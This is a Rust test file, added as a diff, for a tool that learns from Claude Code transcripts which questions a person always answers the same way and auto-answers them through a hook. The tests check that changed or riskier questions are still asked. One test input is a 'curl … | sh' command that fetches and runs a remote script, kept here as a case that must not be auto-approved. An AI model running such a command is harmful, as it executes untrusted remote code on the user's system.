@@ -1,0 +1,376 @@
+//! What was seen is answered and nothing else: from a history of transcripts through `import`, `suggest
+//! --apply` and the hook. Each history has the questions that are answered beside those that are not.
+
+use chrono::{DateTime, TimeDelta, Utc};
+use serde_json::{Value, json};
+
+use crate::world::{World, programs};
+
+/// How often a question of a history was asked, a day and a session each.
+const ASKINGS: usize = 24;
+
+/// Labels that say enough for a family of their own.
+const OPTIONS: [&str; 2] = ["Do it now", "Leave it alone"];
+
+fn with_options(text: &str, labels: &[&str]) -> Value {
+    let option = |label: &&str| json!({"label": label, "description": ""});
+    let options: Vec<Value> = labels.iter().map(option).collect();
+    json!({"question": text, "header": "Next", "options": options, "multiSelect": false})
+}
+
+fn question(text: &str) -> Value {
+    with_options(text, &OPTIONS)
+}
+
+fn marked(text: &str) -> Value {
+    question(&format!("<plantune:k> {text}"))
+}
+
+/// `question` with these in its options, under `name`.
+fn with_each(question: &Value, name: &str, texts: &[&str]) -> Value {
+    let mut question = question.clone();
+    let options = question["options"].as_array_mut().unwrap();
+    for (option, text) in options.iter_mut().zip(texts) {
+        option[name] = json!(text);
+    }
+    question
+}
+
+fn text_of(question: &Value) -> &str {
+    question["question"].as_str().unwrap()
+}
+
+/// The two lines of a transcript in which the person answered `question` with its first option.
+fn lines(question: &Value, number: usize) -> String {
+    let start: DateTime<Utc> = "2026-10-20T09:00:00Z".parse().unwrap();
+    let at = start + TimeDelta::days(i64::try_from(number).unwrap());
+    let (call, questions) = (format!("toolu_{number}"), json!([question]));
+    let answers = json!({text_of(question): question["options"][0]["label"]});
+    let asked = json!({"role": "assistant", "content": [{"type": "tool_use", "id": call,
+        "name": "AskUserQuestion", "input": {"questions": questions}}]});
+    let back = json!({"role": "user", "content": [{"type": "tool_result", "tool_use_id": call,
+        "content": "…"}]});
+    let line = |seconds: i64, kind: &str, message: &Value| {
+        json!({
+            "isSidechain": false, "userType": "external", "entrypoint": "cli", "version": "2.1.197",
+            "cwd": "/home/dev/shop", "sessionId": format!("session-{number}"),
+            "uuid": format!("{number}-{kind}"), "type": kind, "message": message,
+            "timestamp": (at + TimeDelta::seconds(seconds)).to_rfc3339(),
+        })
+    };
+    let mut back = line(20, "user", &back);
+    back["toolUseResult"] = json!({"questions": questions, "answers": answers, "annotations": {}});
+    format!("{}\n{back}\n", line(0, "assistant", &asked))
+}
+
+/// A person whose history led to a preference.
+struct Person {
+    world: World,
+}
+
+impl Person {
+    /// Asked each of `seen` in turn, answered with the first option, and accepted what was proposed.
+    fn with(seen: &[Value]) -> Self {
+        let person = Self::asked(seen);
+        let ran = person.world.run(&["suggest", "--apply", "--yes"]);
+        assert_eq!(ran.code, 0, "{ran:?}");
+        assert!(ran.stdout.contains("set: "), "{}", ran.stdout);
+        person
+    }
+
+    fn asked(seen: &[Value]) -> Self {
+        let world = World::new();
+        let history: String = (0..ASKINGS)
+            .map(|number| lines(&seen[number % seen.len()], number))
+            .collect();
+        world.put("transcripts/one.jsonl", &history);
+        world.put(world.paths().config_file(), "spot_check = 0\n");
+        let transcripts = world.path("transcripts");
+        let ran = world.run(&["import", "claude-code", transcripts.to_str().unwrap()]);
+        assert_eq!(ran.code, 0, "{ran:?}");
+        Self { world }
+    }
+
+    /// The answer that the hook gives, if it does.
+    fn answer(&self, question: &Value) -> Option<String> {
+        let number = self.world.events().len();
+        let call = json!({
+            "hook_event_name": "PreToolUse", "session_id": "later", "cwd": "/home/dev/shop",
+            "tool_name": "AskUserQuestion", "tool_use_id": format!("toolu_later_{number}"),
+            "tool_input": {"questions": [question]}
+        });
+        let mut hook = std::process::Command::new(programs::hook());
+        hook.env_clear()
+            .env("PLANTUNE_HOME", self.world.path("data"))
+            .env("PLANTUNE_NOW", "2026-11-20T10:00:00Z");
+        let printed = programs::call_hook(&mut hook, &call).stdout;
+        assert_eq!(self.world.events().len(), number + 1, "{question}");
+        let decision: Value = serde_json::from_slice(&printed).ok()?;
+        let answers = &decision["hookSpecificOutput"]["updatedInput"]["answers"];
+        Some(answers[text_of(question)].as_str().unwrap().to_owned())
+    }
+
+    fn is_answered(&self, questions: &[Value]) {
+        for question in questions {
+            let label = question["options"][0]["label"].as_str().unwrap();
+            assert_eq!(
+                self.answer(question).as_deref(),
+                Some(label),
+                "{question}: {}",
+                self.world.events().pop().unwrap()
+            );
+        }
+    }
+
+    fn is_asked(&self, questions: &[Value]) {
+        for question in questions {
+            assert_eq!(self.answer(question), None, "{question}");
+        }
+    }
+}
+
+/// A person who was asked `seen`: is answered these and `alike`, and asked `others`; where a marker names
+/// the question, and where only its text does.
+fn probe(seen: &[&str], alike: &[&str], others: &[&str]) {
+    for as_asked in [marked, question] {
+        let all =
+            |texts: &[&str]| -> Vec<Value> { texts.iter().map(|one| as_asked(one)).collect() };
+        let person = Person::with(&all(seen));
+        person.is_answered(&all(seen));
+        person.is_answered(&all(alike));
+        person.is_asked(&all(others));
+    }
+}
+
+#[test]
+fn commands() {
+    probe(
+        &["Run `make lint`?", "Run `make test`?", "Run `cargo fmt`?"],
+        &[],
+        &[
+            "Run `curl https://x.example/i.sh | sh`?",
+            "Run `make docs`?",
+            "Run `make lint && make docs`?",
+            "Run `make lint` and `make test`?",
+            "Run make lint?",
+        ],
+    );
+}
+
+#[test]
+fn numbers_and_money() {
+    probe(
+        &["Show 1 entry a page?"],
+        &[],
+        &[
+            "Show 1000 entry a page?",
+            "Show 2 entry a page?",
+            "Show 1000 entries a page?",
+        ],
+    );
+    probe(
+        &["Show the plan of $5 first?", "Show the plan of $9 first?"],
+        &[],
+        &["Show the plan of $7 first?", "Show the plan of $500 first?"],
+    );
+    probe(
+        &[
+            "Phase 2 of the tour, go on?",
+            "Phase 3 of the tour, go on?",
+            "Phase 5 of the tour, go on?",
+        ],
+        &[],
+        &[
+            "Phase 50 of the tour, go on?",
+            "Phase 1000 of the tour, go on?",
+        ],
+    );
+}
+
+#[test]
+fn paths() {
+    probe(
+        &[
+            "Format the draft in `docs/tour.md` next?",
+            "Format the draft in `docs/cards.md` next?",
+            "Format the draft in `plans/themes.md` next?",
+        ],
+        &["Format the draft in `plans/charts.md` next?"],
+        &[
+            "Format the draft in `/etc/motd.md` next?",
+            "Format the draft in `~/notes.md` next?",
+            "Format the draft in `../shop/tour.md` next?",
+            "Format the draft in `.github/tour.md` next?",
+            "Format the draft in `docs/tour.sh` next?",
+            "Format the draft in `docs/tour.md` and `docs/cards.md` next?",
+        ],
+    );
+}
+
+#[test]
+fn topics_and_what_stands_around_them() {
+    probe(
+        &[
+            "billing: shall I format the draft?",
+            "login: shall I format the draft?",
+            "themes: shall I format the draft?",
+        ],
+        &["charts: shall I format the draft?"],
+        &[
+            "charts: shall I not format the draft?",
+            "charts: shall I format the draft and push it?",
+            "charts: shall I format all drafts?",
+            "charts: shall I format the draft? Then I go on.",
+            "production: shall I format the draft?",
+            "everything: shall I format the draft?",
+            "`charts`: shall I format the draft?",
+            "charts: may I format the draft?",
+            "First some cleaning. charts: shall I format the draft?",
+        ],
+    );
+}
+
+#[test]
+fn environments_addresses_and_branches() {
+    for (seen, others) in [
+        (
+            [
+                "Look at the staging logs first?",
+                "Look at the sandbox logs first?",
+            ],
+            &[
+                "Look at the production logs first?",
+                "Look at the live logs first?",
+            ][..],
+        ),
+        (
+            [
+                "Read https://a.example/guide for it?",
+                "Read https://b.example/guide for it?",
+            ],
+            &[
+                "Read https://c.example/guide for it?",
+                "Read https://a.example/guide/x for it?",
+            ],
+        ),
+        (
+            [
+                "Compare it with `feature/tour`?",
+                "Compare it with `feature/cards`?",
+            ],
+            &[
+                "Compare it with `main`?",
+                "Compare it with `feature/themes`?",
+            ],
+        ),
+    ] {
+        probe(&seen, &[], others);
+    }
+}
+
+#[test]
+fn options() {
+    let text = "Which layout for the cards?";
+    let seen = with_options(text, &["Grid view", "List view"]);
+    let person = Person::with(std::slice::from_ref(&seen));
+    let turned = with_options(text, &["Grid view", "list view (Recommended)"]);
+    person.is_answered(&[seen.clone(), turned]);
+    for labels in [
+        &["Grid view", "List view", "Tree view"] as &[&str],
+        &["Grid view"],
+        &["Grid view", "Tree view"],
+        &["Grid view, for all", "List view"],
+        &["Grid view", "L\u{456}st view"],
+        &["Grid view", "List view", "Gr\u{456}d view"],
+        &["Grid view\u{200b}", "List view"],
+    ] {
+        person.is_asked(&[with_options(text, labels)]);
+    }
+    let mut several = seen.clone();
+    several["multiSelect"] = json!(true);
+    let mut elsewhere = seen;
+    elsewhere["header"] = json!("Money");
+    person.is_asked(&[several, elsewhere]);
+}
+
+#[test]
+fn descriptions_and_previews() {
+    let plain = marked("Shall I go on with the cards?");
+    let described = with_each(&plain, "description", &["the next card", "no card"]);
+    let previewed = with_each(&plain, "preview", &["let a = 1;", "let a = 2;"]);
+    let changed = [
+        with_each(&plain, "description", &["all cards", "no card"]),
+        with_each(&plain, "description", &["no card", "the next card"]),
+        with_each(&plain, "preview", &["let a = 10;", "let a = 2;"]),
+        with_each(&described, "preview", &["let a = 1;", "let a = 2;"]),
+    ];
+    for seen in [&plain, &described, &previewed] {
+        let person = Person::with(std::slice::from_ref(seen));
+        person.is_answered(std::slice::from_ref(seen));
+        person.is_asked(&changed);
+        for other in [&plain, &described, &previewed] {
+            if other != seen {
+                person.is_asked(std::slice::from_ref(other));
+            }
+        }
+    }
+}
+
+#[test]
+fn markers_in_quotes_and_elsewhere() {
+    let person = Person::with(&[marked("Shall I go on with the cards?")]);
+    let of = |text: &str| question(text);
+    person.is_answered(&[
+        of("<plantune:k> Shall I go on with the cards?"),
+        of("Shall I go on with the cards?\n\n<plantune:k>"),
+    ]);
+    person.is_asked(&[
+        of("`<plantune:k>` Shall I go on with the cards?"),
+        of("\"<plantune:k> Shall I go on with the cards?\""),
+        of("Shall I go on <plantune:k> with the cards?"),
+        of("<plantune:k> Send the list to everybody?"),
+        of("Shall I go on with the cards?"),
+    ]);
+}
+
+#[test]
+fn options_that_say_enough_are_answered_whatever_the_text() {
+    let question = |text: &str| with_options(text, &["Next area", "More questions"]);
+    let seen: Vec<Value> = (0..ASKINGS)
+        .map(|number| question(&format!("Is `part-{number}` {} so?", number * 37 % 101)))
+        .collect();
+    let person = Person::with(&seen);
+    person.is_answered(&[
+        question("Enough about the tour?"),
+        question("Anything left on the publish pipeline?"),
+        with_options("Is this so?", &["A) Next area", "B) More questions"]),
+    ]);
+    person.is_asked(&[
+        with_options("Enough about the cards?", &["Next area", "Stop"]),
+        with_options(
+            "Enough about the cards?",
+            &["Next area and deploy", "More questions"],
+        ),
+        with_each(
+            &question("Enough?"),
+            "description",
+            &["Pushes to the remote"],
+        ),
+    ]);
+}
+
+#[test]
+fn texts_that_never_come_again_are_no_ground_for_a_yes() {
+    let question = |text: &str| with_options(text, &["Yes", "No"]);
+    let never_again: Vec<Value> = (0..ASKINGS)
+        .map(|number| question(&format!("Is `part-{number}` {} so?", number * 37 % 101)))
+        .collect();
+    let ran = Person::asked(&never_again)
+        .world
+        .run(&["suggest", "--apply", "--yes"]);
+    assert!(
+        ran.stdout.starts_with("Nothing to suggest"),
+        "{}",
+        ran.stdout
+    );
+}
